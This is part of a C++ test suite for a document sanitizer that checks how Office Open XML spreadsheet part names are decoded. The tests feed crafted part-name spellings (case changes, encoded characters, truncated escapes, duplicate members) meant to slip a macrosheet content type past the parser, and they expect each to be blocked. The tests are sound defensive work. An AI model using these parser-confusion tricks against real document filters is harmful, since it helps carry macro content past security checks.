    Package p = sheet(R"(<row r="1"><c r="A1"><v>1</v></c></row>)");
    p.overrides = {{"xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"}, {encoded, worksheet_type}};
    p.rels["xl/workbook.xml"] = {{"rId1", "worksheet", "worksheets/%E3%82%B7%E3%83%BC%E3%83%88.xml"}};
    p.rels.erase("xl/worksheets/sheet1.xml");
    p.parts.erase(std::remove_if(p.parts.begin(), p.parts.end(), [](const auto& part) { return part.first.rfind("xl/worksheets/", 0) == 0 || part.first.rfind("xl/drawings/", 0) == 0; }),
                  p.parts.end());
    p.part("xl/worksheets/シート.xml") = R"(<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>)";
    return p;
  };
  // The encoded override names the part stored under its UTF-8 name: it is that part's type.
  Package good = japanese_sheet();
  CdrResult r = sanitize(good.zip(), good.name, {});
  ASSERT_EQ(r.verdict, Verdict::clean) << r.message << (r.findings.empty() ? "" : " " + std::string(to_string(r.findings[0].kind)) + " " + r.findings[0].location);
  auto parts = unzip(r.output);
  EXPECT_TRUE(parts.count("xl/worksheets/シート.xml"));
  EXPECT_NE(parts["[Content_Types].xml"].find("PartName=\"/" + encoded + "\""), std::string::npos) << parts["[Content_Types].xml"];
  expect_safe_package(r.output, "xlsx");
  EXPECT_EQ(sanitize(r.output, good.name, {}).verdict, Verdict::clean);

  // Entries that name one part twice, by spellings OPC treats as one name.
  const std::vector<std::pair<std::string, std::string>> duplicates = {
      {"xl/worksheets/シート.xml", macrosheet_type},         // the same name unencoded
      {"XL/Worksheets/%e3%82%b7%e3%83%bc%e3%83%88.XML", macrosheet_type},  // other case, lower-case escapes
  };
  for (const auto& [name, type] : duplicates) {
    Package p = japanese_sheet();
    p.overrides.emplace_back(name, type);
    r = sanitize(p.zip(), p.name, {});
    EXPECT_EQ(r.verdict, Verdict::blocked) << name;
    EXPECT_EQ(r.reason, "malformed") << name;
  }
  // Spellings a strict reader refuses and a lenient one maps elsewhere: an escaped unreserved
  // character, an escaped '%', a truncated escape.
  for (const std::string bad : {"xl/%6Dacrosheets/x.xml", "xl/worksheets/a%2541.xml", "xl/worksheets/sheet1.xml%4"}) {
    Package p = japanese_sheet();
    p.overrides.emplace_back(bad, macrosheet_type);
    r = sanitize(p.zip(), p.name, {});
    EXPECT_EQ(r.verdict, Verdict::blocked) << bad;
    EXPECT_EQ(r.reason, "malformed") << bad;
  }
  // Two members that are one part once decoded.
  {
    std::vector<fixtures::RawMember> members;
    for (const auto& [name, bytes] : unzip(japanese_sheet().zip())) members.push_back({name, bytes});
    members.push_back({encoded, "<x/>"});
    r = sanitize(fixtures::raw_zip(members), "a.xlsx", {});
    EXPECT_EQ(r.verdict, Verdict::blocked);
    EXPECT_EQ(r.reason, "malformed");
  }
}

}  // namespace
}  // namespace sanso::cdr
